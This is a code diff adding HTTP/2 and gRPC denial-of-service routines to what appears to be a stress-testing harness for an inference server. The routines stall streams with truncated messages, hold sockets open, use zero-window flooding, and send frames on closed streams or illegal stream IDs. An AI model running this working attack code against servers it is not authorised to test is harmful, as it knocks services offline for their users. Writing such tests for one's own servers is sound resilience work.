@@ -530,6 +530,127 @@ def no_preface(
             s.close()
 
 
+SHORT_MESSAGE = struct.pack(">BI", 0, 110) + b"\0" * 10  # a length prefix claiming 110 bytes, and 10
+
+
+def _stalled_calls(
+    target: Target,
+    stop: threading.Event,
+    counters: Counter[str],
+    end_stream: bool,
+    connections: int = 12,
+    calls: int = 100,
+) -> None:
+    """`connections` connections, each keeping `calls` ModelInfer calls open whose one DATA frame is
+    :data:`SHORT_MESSAGE`: with `end_stream` that frame ends the stream (the message can never be
+    whole), without it the stream stays open and silent. A call the server ends (trailers:
+    ``grpc_status_N``; RST_STREAM: ``reset_by_server``) is replaced by a new one; a connection it
+    closes, by a new connection. ``held_streams``: calls still open at the end."""
+    headers = request_headers(target)
+    flags = ["END_STREAM"] if end_stream else []
+    conns: list[tuple[RawConnection, hpack.Decoder, set[int], list[int]]] = []
+    try:
+        while not stop.is_set():
+            for c in [c for c in conns if c[0].closed]:
+                counters["closed_by_server"] += 1
+                c[0].close()
+                conns.remove(c)
+            while len(conns) < connections and not stop.is_set():
+                try:
+                    conns.append((RawConnection(target), hpack.Decoder(), set(), [1]))
+                    counters["connections"] += 1
+                except OSError:
+                    counters["connect_failed"] += 1
+                    break
+            for conn, decoder, open_, next_id in conns:
+                frames: list[Frame] = []
+                while len(open_) < calls:
+                    sid = next_id[0]
+                    next_id[0] += 2
+                    frames.append(HeadersFrame(sid, data=conn.encoder.encode(headers), flags=["END_HEADERS"]))
+                    frames.append(DataFrame(sid, data=SHORT_MESSAGE, flags=flags))
+                    open_.add(sid)
+                    counters["calls_opened"] += 1
+                if frames and not conn.send(*frames):
+                    conn.reader.eof = True
+                    continue
+                for f in conn.drain():
+                    if isinstance(f, RstStreamFrame):
+                        open_.discard(f.stream_id)
+                        counters["reset_by_server"] += 1
+                    elif isinstance(f, HeadersFrame):
+                        for k, v in decoder.decode(f.data, raw=True):
+                            if k == b"grpc-status":
+                                counters[f"grpc_status_{v.decode()}"] += 1
+                        if "END_STREAM" in f.flags:
+                            open_.discard(f.stream_id)
+                    elif isinstance(f, GoAwayFrame):
+                        counters["goaway"] += 1
+            stop.wait(0.05)
+    finally:
+        counters["held_streams"] = sum(len(c[2]) for c in conns if not c[0].closed)
+        for c in conns:
+            c[0].close()
+
+
+def short_messages(target: Target, stop: threading.Event, counters: Counter[str]) -> None:
+    """12 connections x 100 calls, each a 10-byte message whose length prefix claims 110 bytes, then
+    END_STREAM: the calls can never finish, and the sockets are held."""
+    _stalled_calls(target, stop, counters, end_stream=True)
+
+
+def slow_streams(target: Target, stop: threading.Event, counters: Counter[str]) -> None:
+    """12 connections x 100 calls, each 10 bytes of a 110-byte message and then nothing: the calls
+    make no progress, and the sockets are held."""
+    _stalled_calls(target, stop, counters, end_stream=False)
+
+
+def zero_window_12(target: Target, stop: threading.Event, counters: Counter[str]) -> None:
+    """:func:`zero_window` on 12 connections at a time."""
+    zero_window(target, stop, counters, connections=12)
+
+
+def headers_on_closed_streams(target: Target, stop: threading.Event, counters: Counter[str]) -> None:
+    """Calls opened and reset by the client, each followed by a HEADERS block on the stream it has
+    just closed (RFC 9113 §5.1: a connection error, STREAM_CLOSED), 100 to a write."""
+
+    def attack(c: RawConnection, state: dict[str, int]) -> bool:
+        plain = [hpack.NeverIndexedHeaderTuple(k, v) for k, v in request_headers(target)]
+        frames: list[Frame] = []
+        for _ in range(100):
+            sid = state.setdefault("sid", 1)
+            state["sid"] += 2
+            frames += [
+                HeadersFrame(sid, data=c.encoder.encode(plain), flags=["END_HEADERS"]),
+                RstStreamFrame(sid, error_code=8),  # CANCEL
+                HeadersFrame(sid, data=c.encoder.encode(plain), flags=["END_HEADERS", "END_STREAM"]),
+            ]
+        counters["closed_stream_headers"] += 100
+        return c.send(*frames)
+
+    _while_open(target, stop, counters, attack)
+
+
+def odd_stream_ids(target: Target, stop: threading.Event, counters: Counter[str]) -> None:
+    """HEADERS on stream ids a client may not use (RFC 9113 §5.1.1, a connection error,
+    PROTOCOL_ERROR): even ones (the server's), and ones below the last the client opened, 100 to a
+    write."""
+
+    def attack(c: RawConnection, state: dict[str, int]) -> bool:
+        plain = [hpack.NeverIndexedHeaderTuple(k, v) for k, v in request_headers(target)]
+        top = state.setdefault("top", 1001)
+        state["top"] += 200
+        frames = [HeadersFrame(top, data=c.encoder.encode(plain), flags=["END_HEADERS"])]
+        for i in range(1, 100):
+            sid = top - 2 * i if i % 2 else top + 2 * i - 1  # lower odd ids, and even ids
+            block = c.encoder.encode(plain)
+            frames.append(HeadersFrame(sid, data=block, flags=["END_HEADERS", "END_STREAM"]))
+        counters["bad_stream_ids"] += 99
+        return c.send(*frames)
+
+    _while_open(target, stop, counters, attack)
+
+
 Attack = Callable[[Target, threading.Event, Counter[str]], None]
 
 H2_ATTACKS: dict[str, Attack] = {
@@ -543,4 +664,9 @@ H2_ATTACKS: dict[str, Attack] = {
     "grpc_gzip_bomb": grpc_gzip_bomb,
     "length_prefix_4gb": length_prefix_4gb,
     "no_preface": no_preface,
+    "short_messages": short_messages,
+    "slow_streams": slow_streams,
+    "zero_window_12": zero_window_12,
+    "headers_on_closed_streams": headers_on_closed_streams,
+    "odd_stream_ids": odd_stream_ids,
 }
